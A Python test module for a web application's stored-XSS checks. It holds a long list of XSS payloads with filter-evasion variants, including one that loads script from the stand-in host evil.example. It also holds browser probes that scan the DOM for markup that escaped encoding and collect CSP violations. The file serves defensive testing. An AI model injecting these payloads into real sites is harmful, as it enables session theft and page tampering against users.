"""Stored-XSS payloads and the in-browser probes that tell whether any of them became markup or ran.

Every payload calls a marker when it runs: `__xss(n)` (a binding the test exposes) or `alert(n)` (a
dialog). `{n}` is the payload's number; it is replaced, not formatted, so braces stay literal.
"""
from __future__ import annotations

# Short enough (<= 54 characters with a two-digit number) that each fits every field, display names (60) included, with its tag.
PAYLOADS: tuple[str, ...] = (
    # script elements
    "<script>__xss({n})</script>",
    "<SCRIPT SRC=data:,__xss({n})></SCRIPT>",
    "<script src=//evil.example/{n}.js></script>",
    "<scr<script>ipt>__xss({n})</scr</script>ipt>",
    "<<script>script>__xss({n})<</script>/script>",
    "<svg><script>__xss({n})</script></svg>",
    "<template><script>__xss({n})</script></template>",
    # event handler attributes
    "<img src=x onerror=__xss({n})>",
    "<img/src/onerror=__xss({n})>",
    "<img src=x onerror=alert({n})>",
    "<img src=x onerror=&#95;_xss({n})>",
    "<img src=x onerror=__xss({n})//",
    "<svg onload=__xss({n})>",
    "<svg/onload=alert({n})>",
    "<body onload=__xss({n})>",
    "<details open ontoggle=__xss({n})>",
    "<input autofocus onfocus=__xss({n})>",
    "<select autofocus onfocus=__xss({n})></select>",
    "<video><source onerror=__xss({n})></video>",
    "<audio src onerror=__xss({n})>",
    "<marquee onstart=__xss({n})>x</marquee>",
    "<a href=# onclick=__xss({n})>click</a>",
    "<svg><animate onbegin=__xss({n}) attributeName=x>",
    "<dialog open onclose=__xss({n})>",
    # javascript: and data: URLs
    "javascript:__xss({n})",
    "<a href=\"javascript:__xss({n})\">click</a>",
    "<a href=\" JaVaScRiPt:__xss({n})\">x</a>",
    "<a href=\"jav&#x09;ascript:__xss({n})\">x</a>",
    "<a href=\"&#106;avascript:__xss({n})\">x</a>",
    "<form action=javascript:__xss({n})><button>x",
    "<button formaction=javascript:__xss({n})>x</button>",
    "<object data=\"javascript:__xss({n})\"></object>",
    "<embed src=data:text/html,<script>__xss({n})</script>>",
    "data:text/html,<script>__xss({n})</script>",
    "<base href=\"javascript:__xss({n})//\">",
    "<meta http-equiv=refresh content=0;url=//x.example/{n}>",
    # SVG / MathML
    "<svg><a xlink:href=javascript:__xss({n})><text>x</a>",
    "<math><mi xlink:href=javascript:__xss({n})>x</mi>",
    "<svg><style><img src=x onerror=__xss({n})></style>",
    # breaking out of attributes and raw-text elements
    "\"><script>__xss({n})</script>",
    "'><img src=x onerror=__xss({n})>",
    "\" onmouseover=\"__xss({n})\" x=\"",
    "' autofocus onfocus='__xss({n})",
    "\" autofocus onfocus=__xss({n}) x=\"",
    "</textarea><script>__xss({n})</script>",
    "</title><script>__xss({n})</script>",
    "</style><script>__xss({n})</script>",
    "</script><svg onload=__xss({n})>",
    "<!--<img src=\"--><img src=x onerror=__xss({n})>\">",
    "\"-__xss({n})-\"",
    "'-__xss({n})-'",
    # entity and encoding tricks
    "&lt;script&gt;__xss({n})&lt;/script&gt;",
    "&#60;img src=x onerror=__xss({n})&#62;",
    "&#x3C;svg onload=__xss({n})&#x3E;",
    "\\u003cscript\\u003e__xss({n})\\u003c/script\\u003e",
    "%3Cscript%3E__xss({n})%3C/script%3E",
    "&amp;lt;b&amp;gt;__xss({n})",
    # template / expression injection
    "{{7*7}} {{config}} __xss({n})",
    "{{ ''.__class__.__mro__ }}__xss({n})",
    "{% print(1) %}{{ self }}__xss({n})",
    "${__xss({n})} #{__xss({n})}",
    # markdown-ish links, and links that linkify sees
    "[click](javascript:__xss({n}))",
    "![x](javascript:__xss({n}))",
    "<javascript:__xss({n})>",
    "http://x.example/\"><script>__xss({n})</script>",
    "https://x.example/?a=<img src=x onerror=__xss({n})>",
    "www.x.example/\"onmouseover=\"__xss({n})",
    "mailto:a@x.example?\"><svg onload=__xss({n})>",
    # unicode / RTL / control characters
    "\u202e<script>__xss({n})</script>\u202c",
    "\u2066<svg onload=__xss({n})>\u2069",
    "\uff1cscript\uff1e__xss({n})\uff1c/script\uff1e",
    "<scr\u0000ipt>__xss({n})</script>",
    "<img src=x\x0bonerror=__xss({n})>",
    "\u0130<svg onload=__xss({n})>\u0131",
    # CSS expressions and styles
    "<div style=\"width:expression(__xss({n}))\">x</div>",
    "<div style=\"background:url(javascript:__xss({n}))\">",
    "<style>@import 'javascript:__xss({n})';</style>",
    "<x style=\"behavior:url(#x)\" onbegin=__xss({n})>",
    "<link rel=stylesheet href=\"javascript:__xss({n})\">",
    # frames
    "<iframe srcdoc=\"<script>parent.__xss({n})</script>\">",
    "<iframe src=\"javascript:parent.__xss({n})\">",
    "<iframe src=data:text/html,<script>alert({n})</script>>",
    # swallowing the rest of the page
    "<plaintext><script>__xss({n})</script>",
    "<xmp></xmp><img src=x onerror=__xss({n})>",
)

# Inert in Chromium whatever the context: dangerous only where a server transforms text (renders markdown,
# evaluates templates, decodes URLs or entities twice, folds full-width forms), against filters that strip
# tags, or in old browsers. What catches those is the read-back: the page would not show the stored text.
INERT_IN_CHROMIUM = ("[click]", "![x]", "{{", "{%", "${", "%3C", "\\u003c", "\uff1c", "&lt;", "&#60;", "&#x3C;",
                     "&amp;", "<javascript:", "<scr<script>", "<img src=x\x0b")

# Run in every frame before the page's own scripts: collect CSP violations.
INIT_SCRIPT = """
window.__cspViolations = [];
document.addEventListener('securitypolicyviolation', (e) => {
  window.__cspViolations.push(`${e.violatedDirective} blocked ${e.blockedURI || 'inline'} at ` +
                              `${e.sourceFile}:${e.lineNumber} ${e.sample || ''}`);
});
"""

# Everything user text could have become if it were not escaped: script, handlers, dangerous URLs, frames,
# styles (the site has no inline style: the CSP forbids it). The site's own pages carry none of these.
DOM_SCAN_JS = """(allowStyle) => {
  const unexpected = new Set(['iframe', 'frame', 'frameset', 'object', 'embed', 'base', 'applet', 'math',
    'template', 'plaintext', 'xmp', 'noembed', 'noframes', 'marquee', 'portal', 'style', 'audio', 'video',
    'dialog', 'animate', 'set', 'foreignobject']);
  const urlAttrs = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'background', 'poster',
    'srcset', 'ping', 'content']);
  const danger = /^(javascript|vbscript|data:text|data:application)/i;
  const found = [];
  const describe = (el) => el.outerHTML.slice(0, 140);
  for (const el of document.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (unexpected.has(tag)) found.push('element ' + describe(el));
    if (tag === 'script' && !el.getAttribute('src')) found.push('inline script ' + describe(el));
    if (tag === 'script' && el.getAttribute('src') && !el.src.startsWith(location.origin + '/static/')) {
      found.push('foreign script ' + describe(el));
    }
    if ((tag === 'meta' || tag === 'link') && el.closest('body')) found.push('element in body ' + describe(el));
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const squeezed = attr.value.replace(/[\\u0000-\\u0020]+/g, '');
      if (name.startsWith('on')) found.push('handler ' + describe(el));
      else if ((name === 'style' && !allowStyle) || name === 'srcdoc') found.push(name + ' attribute ' + describe(el));
      else if (urlAttrs.has(name) && danger.test(squeezed)) found.push('dangerous URL ' + describe(el));
    }
  }
  return found;
}"""

# What the reader can see or the page holds as plain values: text, the title, form values, link targets
# and labels. A payload that was escaped shows up here verbatim; one that became markup does not.
PAGE_TEXT_JS = """() => {
  const parts = [document.title, document.body ? document.body.textContent : ''];
  for (const el of document.querySelectorAll('input, textarea')) parts.push(el.value);
  for (const el of document.querySelectorAll('[href], [aria-label], [title], [alt]')) {
    for (const name of ['href', 'aria-label', 'title', 'alt']) {
      if (el.hasAttribute(name)) parts.push(el.getAttribute(name));
    }
  }
  return parts.join('\\n');
}"""


def payload(number: int) -> str:
    """Payload `number` with its marker number filled in."""
    return PAYLOADS[number].replace("{n}", str(number))
